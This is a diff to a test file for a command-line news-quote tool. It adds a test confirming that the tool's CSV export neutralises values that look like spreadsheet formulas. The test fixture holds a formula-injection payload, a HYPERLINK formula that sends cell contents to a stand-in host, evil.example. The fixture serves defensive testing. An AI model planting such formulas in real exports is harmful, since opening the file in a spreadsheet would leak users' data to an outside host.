@@ -5,7 +5,8 @@ import path from 'node:path';
 import { PassThrough } from 'node:stream';
 import { promisify } from 'node:util';
 import { beforeAll, describe, expect, it } from 'vitest';
-import type { Engine } from '../../../src/engine/engine.ts';
+import { loadDocument } from '../../../src/corpus/load-document.ts';
+import { Engine } from '../../../src/engine/engine.ts';
 import { silentLogger } from '../../../src/logger.ts';
 import { runCli } from '../../../src/platforms/console/cli.ts';
 import { runConsole } from '../../../src/platforms/console/console.ts';
@@ -70,8 +71,29 @@ describe('one-shot CLI', () => {
   it('exports every quote as CSV with a header', async () => {
     const { out } = await cli(['quotes'], { csv: true });
     const lines = out.trim().split('\n');
-    expect(lines[0]).toBe('article,outlet,headline,url,published,paragraph,text,speaker,mention,cue');
+    expect(lines[0]).toBe('"article","outlet","headline","url","published","paragraph","text","speaker","mention","cue"');
     expect(out).toContain('village of Bucha');
+  });
+
+  it('exports headlines and quotes that look like spreadsheet formulas as text (a leading single quote)', async () => {
+    const article = [
+      '---',
+      'outlet: Quay Post',
+      'title: =HYPERLINK("https://evil.example/?q="&A1,"Ferry fares")',
+      'published: 2024-03-13',
+      '---',
+      '"@SUM(1+1) is what the ferry chief wrote on the board," Lena Voss said on Monday.',
+    ].join('\n');
+    const formulas = new Engine({
+      articles: loadDocument('formulas.md', Buffer.from(article), { markdown: true }).articles,
+      skipped: [],
+      warnings: [],
+    });
+    let out = '';
+    await runCli(formulas, ['quotes'], { json: false, csv: true, color: false, logger: silentLogger(), write: (t) => (out += t) });
+    expect(out).toContain('"\'=HYPERLINK(""https://evil.example/?q=""&A1,""Ferry fares"")"');
+    expect(out).toContain('"\'@SUM(1+1) is what the ferry chief wrote on the board,"');
+    expect(out).not.toMatch(/(^|,)"[=+\-@]/m);
   });
 
   it('exits 1 with the message for a bad query, 2 for an unknown command', async () => {
